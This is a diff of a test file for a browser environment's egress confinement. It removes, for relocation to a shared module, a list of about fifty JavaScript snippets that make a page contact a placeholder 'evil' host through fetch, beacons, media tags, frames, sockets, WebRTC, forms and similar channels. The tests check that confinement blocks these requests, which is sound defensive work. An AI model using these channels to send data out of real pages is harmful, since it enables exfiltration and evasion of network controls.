@@ -12,6 +12,7 @@ from clickwright.environments.browser.egress import Egress
 from clickwright.environments.browser.options import BrowserOptions, Proxy
 from clickwright.environments.environment import Destination, Judge
 from clickwright.errors import EnvironmentLost, UsageError
+from clickwright.reliability.channels import CHANNELS, LEAST, tried
 from clickwright.tools import Navigate, Task
 
 if typing.TYPE_CHECKING:
@@ -19,71 +20,9 @@ if typing.TYPE_CHECKING:
 
 in_browser = pytest.mark.asyncio(loop_scope="session")
 
-# Every way that a page has to ask for something. None may arrive at {evil}; {via} leads there from an allowed host.
-CHANNELS = {
-    "fetch": "fetch('{evil}/')",
-    "fetch, no cors": "fetch('{evil}/', {mode: 'no-cors', method: 'POST', body: 'x'})",
-    "fetch, redirected": "fetch('{via}/', {mode: 'no-cors'})",
-    "request": "let r = new XMLHttpRequest; r.open('GET', '{evil}/'); r.send()",
-    "beacon": "navigator.sendBeacon('{evil}/', 'x')",
-    "keepalive": "fetch('{evil}/', {mode: 'no-cors', keepalive: true})",
-    "picture": "new Image().src = '{evil}/x.png'",
-    "picture, redirected": "new Image().src = '{via}/x.png'",
-    "picture set": "add('img', {srcset: '{evil}/x.png 1x'})",
-    "video": "add('video', {src: '{evil}/x.mp4', autoplay: ''})",
-    "poster": "add('video', {poster: '{evil}/x.png'})",
-    "audio": "add('audio', {src: '{evil}/x.mp3', autoplay: ''})",
-    "track": "add('video', {}).append(make('track', {src: '{evil}/x.vtt', default: ''}))",
-    "script": "add('script', {src: '{evil}/x.js'})",
-    "script, redirected": "add('script', {src: '{via}/x.js'})",
-    "module": "import('{evil}/x.js').catch(() => 0)",
-    "style": "add('link', {rel: 'stylesheet', href: '{evil}/x.css'})",
-    "style, imported": "add('style', {}).textContent = '@import url({evil}/x.css)'",
-    "background": "add('p', {style: 'background: url({evil}/x.png)'}).textContent = 'x'",
-    "font": "add('style', {}).textContent = '@font-face {font-family: e; src: url({evil}/x.woff)} i {font-family: e}';"
-    " add('i', {}).textContent = 'x'",
-    "frame": "add('iframe', {src: '{evil}/'})",
-    "frame, redirected": "add('iframe', {src: '{via}/'})",
-    "frame, refreshed": "add('iframe', {srcdoc: '<meta http-equiv=refresh content=\"0;url={evil}/\">'})",
-    "frame of data": "add('iframe', {src: 'data:text/html,<img src={evil}/x.png>'})",
-    "object": "add('object', {data: '{evil}/x.svg', type: 'image/svg+xml'})",
-    "embed": "add('embed', {src: '{evil}/x.svg', type: 'image/svg+xml'})",
-    "icon": "add('link', {rel: 'icon', href: '{evil}/x.ico'})",
-    "prefetch": "add('link', {rel: 'prefetch', href: '{evil}/'})",
-    "preload": "add('link', {rel: 'preload', as: 'image', href: '{evil}/x.png'})",
-    "module, preloaded": "add('link', {rel: 'modulepreload', href: '{evil}/x.js'})",
-    "connection": "add('link', {rel: 'preconnect', href: '{evil}/'})",
-    "speculation": "add('script', {type: 'speculationrules'}).textContent = "
-    "JSON.stringify({prerender: [{source: 'list', urls: ['{evil}/']}]})",
-    "manifest": "add('link', {rel: 'manifest', href: '{evil}/x.json'})",
-    "events": "new EventSource('{evil}/')",
-    "socket": "new WebSocket('{evil}/'.replace('http', 'ws'))",
-    "transport": "try { new WebTransport('{evil}/'.replace('http:', 'https:')) } catch {}",
-    "worker": "new Worker(own(`fetch('{evil}/', {mode: 'no-cors'})`))",
-    "shared worker": "new SharedWorker(own(`fetch('{evil}/', {mode: 'no-cors'})`))",
-    "worker, importing": "new Worker(own(`importScripts('{evil}/x.js')`))",
-    "form": "let f = add('form', {action: '{evil}/', method: 'post', target: 'inner'});"
-    " add('iframe', {name: 'inner'}); f.submit()",
-    "ping": "let a = add('a', {href: '#', ping: '{evil}/'}); a.click()",
-    "new window": "window.open('{evil}/')",
-    "new window, redirected": "window.open('{via}/')",
-    "peer": "let p = new RTCPeerConnection({iceServers: [{urls: '{stun}'}]}); p.createDataChannel('x');"
-    " p.createOffer().then((o) => p.setLocalDescription(o))",
-    "report": "add('iframe', {srcdoc: '<meta http-equiv=Content-Security-Policy content=\"img-src none;"
-    " report-uri {evil}/\"><img src=/x.png>'})",
-    "drawing": "add('p', {}).innerHTML = '<svg><image href=\"{evil}/x.png\"/><use href=\"{evil}/x.svg#a\"/></svg>'",
-    "the page itself": "setTimeout(() => location = '{evil}/', 800)",
-}
-TOOLS = """
-const make = (kind, given) => { let e = document.createElement(kind);
-  for (let name in given) e.setAttribute(name, given[name]); return e; };
-const add = (kind, given) => document.body.appendChild(make(kind, given));
-const own = (code) => URL.createObjectURL(new Blob([code], {type: 'text/javascript'}));
-"""
 
-
-class Evil(asyncio.DatagramProtocol):
-    """Notes what arrives: the first part of each path, "" for a connection without a request, "udp" for datagrams."""
+class Evil:
+    """Notes what arrives: the first part of each path, "" for a connection without a request."""
 
     def __init__(self) -> None:
         self.arrived: set[str] = set()
@@ -94,76 +33,32 @@ class Evil(asyncio.DatagramProtocol):
         writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
         writer.close()
 
-    def datagram_received(self, data: bytes, addr: object) -> None:
-        self.arrived.add("udp")
-
 
 @pytest_asyncio.fixture(loop_scope="session")
-async def evil() -> AsyncGenerator[tuple[Evil, int, int]]:
-    """Where nothing may arrive: what notes it, its port for connections and its port for datagrams."""
+async def evil() -> AsyncGenerator[tuple[Evil, int]]:
+    """Where nothing may arrive: what notes it, and its port."""
     noted = Evil()
     server = await asyncio.start_server(noted.on_connection, "127.0.0.1", 0)
-    loop = asyncio.get_running_loop()
-    transport, _ = await loop.create_datagram_endpoint(lambda: noted, local_addr=("127.0.0.1", 0))
-    yield noted, server.sockets[0].getsockname()[1], transport.get_extra_info("sockname")[1]
+    yield noted, server.sockets[0].getsockname()[1]
     server.close()
-    transport.close()
 
 
 def only(*ports: int) -> Judge:
     return lambda to: "" if to.host in ("127.0.0.1", "localhost") and to.port in ports else "it is not of this run"
 
 
-def hostile(site: "Site", evil_port: int, stun_port: int) -> str:
-    """The URL of a page that tries every way; each asks for a path of its own."""
-    codes: list[str] = []
-    for number, code in enumerate(CHANNELS.values()):
-        there = f"http://127.0.0.1:{evil_port}/{number}"
-        site.redirects[f"/away/{number}"] = f"{there}/"
-        where = {"{evil}": there, "{via}": site.url(f"/away/{number}"), "{stun}": f"stun:127.0.0.1:{stun_port}"}
-        for mark, url in where.items():
-            code = code.replace(mark, url)
-        codes.append(f"try {{ (() => {{ {code} }})() }} catch (e) {{ console.log(e) }}")
-    return site.put(f"<script>{TOOLS} window.onload = () => {{ {' '.join(codes)} }}</script>")
-
-
-async def visit(environment: BrowserEnvironment, url: str) -> None:
-    """Open the page, and let all of its requests begin."""
-    await environment.reset(Task(goal="look", start_url=url))
-    await asyncio.sleep(2.5)
-    await environment.observe()
-    await environment.close()
+@in_browser
+async def test_no_way_of_a_page_leads_to_where_it_may_not(chromium: Chromium) -> None:
+    kept = await tried(chromium, "page", secure=False, confined=True)
+    assert kept.leaked == 0
+    assert kept.refused > 30
 
 
 @in_browser
-async def test_no_way_of_a_page_leads_to_where_it_may_not(
-    site: "Site", evil: tuple[Evil, int, int], chromium: Chromium
-) -> None:
-    noted, *ports = evil
-    refused: list[Destination] = []
-
-    def judge(to: Destination) -> str:
-        said = only(site.server_port)(to)
-        refused.extend([to] * bool(said))
-        return said
-
-    environment = BrowserEnvironment(chromium=chromium)
-    environment.confine(judge)
-    await visit(environment, hostile(site, *ports))
-    assert noted.arrived == set()
-    assert len(refused) > 30
-    assert {to.port for to in refused} == {ports[0]}
-
-
-@in_browser
-async def test_the_same_ways_lead_there_where_nothing_keeps_them(
-    site: "Site", evil: tuple[Evil, int, int], chromium: Chromium
-) -> None:
+async def test_the_same_ways_lead_there_where_nothing_keeps_them(chromium: Chromium) -> None:
     """Otherwise the test above would prove nothing."""
-    noted, *ports = evil
-    await visit(BrowserEnvironment(chromium=chromium), hostile(site, *ports))
-    arrived = {number for number in range(len(CHANNELS)) if str(number) in noted.arrived}
-    assert len(arrived) >= 33, [name for number, name in enumerate(CHANNELS) if number not in arrived]
+    free = await tried(chromium, "page", secure=False, confined=False)
+    assert len(free.arrived) >= LEAST, CHANNELS.keys() - free.arrived
 
 
 @in_browser
@@ -186,9 +81,9 @@ async def test_what_cannot_be_kept_is_refused(chromium: Chromium, site: "Site") 
 @in_browser
 @pytest.mark.parametrize("is_lasting", [False, True])
 async def test_what_is_open_already_is_opened_anew(
-    is_lasting: bool, evil: tuple[Evil, int, int], site: "Site", tmp_path: Path
+    is_lasting: bool, evil: tuple[Evil, int], site: "Site", tmp_path: Path
 ) -> None:
-    noted, port, _ = evil
+    noted, port = evil
     environment = BrowserEnvironment(user_data_dir=tmp_path if is_lasting else None)
     task = Task(goal="look", start_url=site.put(f"<p>x</p><img src=http://127.0.0.1:{port}/before>"))
     await environment.reset(task)
